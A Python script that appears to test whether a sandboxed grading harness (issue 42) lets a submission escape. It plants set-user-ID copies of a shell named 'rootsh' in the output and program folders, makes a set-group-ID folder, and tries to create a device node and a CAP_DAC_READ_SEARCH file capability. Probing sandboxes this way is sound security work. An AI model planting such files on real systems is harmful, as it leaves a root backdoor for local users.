# issue 42, 1: a copy of a shell with the set-user-ID bit in its output and its program
# folder, a set-group-ID folder, a device node and a file capability: a local user running
# the copy left in --out would run it as the copy's owner (root, when the runner is root).
import os
import shutil
import stat
import struct
import sys

out = sys.argv[1]
shell = shutil.which("bash") or sys.executable
for folder in (out, os.getcwd()):  # /app/output and /app/program
    target = os.path.join(folder, "rootsh")
    shutil.copyfile(shell, target)
    os.chmod(target, 0o4755)
    print(f"rootsh in {folder}: mode {stat.filemode(os.stat(target).st_mode)}")
os.mkdir(os.path.join(out, "shared_group"))
os.chmod(os.path.join(out, "shared_group"), 0o2775)
try:
    os.mknod(os.path.join(out, "null"), stat.S_IFCHR | 0o666, os.makedev(1, 3))
    print("ESCAPE: a device node")
except OSError as exc:
    print(f"held: no device node ({exc.strerror})")
try:  # vfs_cap_data v2, effective: CAP_DAC_READ_SEARCH
    os.setxattr(os.path.join(out, "rootsh"), "security.capability", struct.pack("<5I", 0x02000001, 1 << 2, 0, 0, 0))
    print("ESCAPE: a file capability")
except OSError as exc:
    print(f"held: no file capability ({exc.strerror})")
open(os.path.join(out, "pred.txt"), "w").write("0.5")
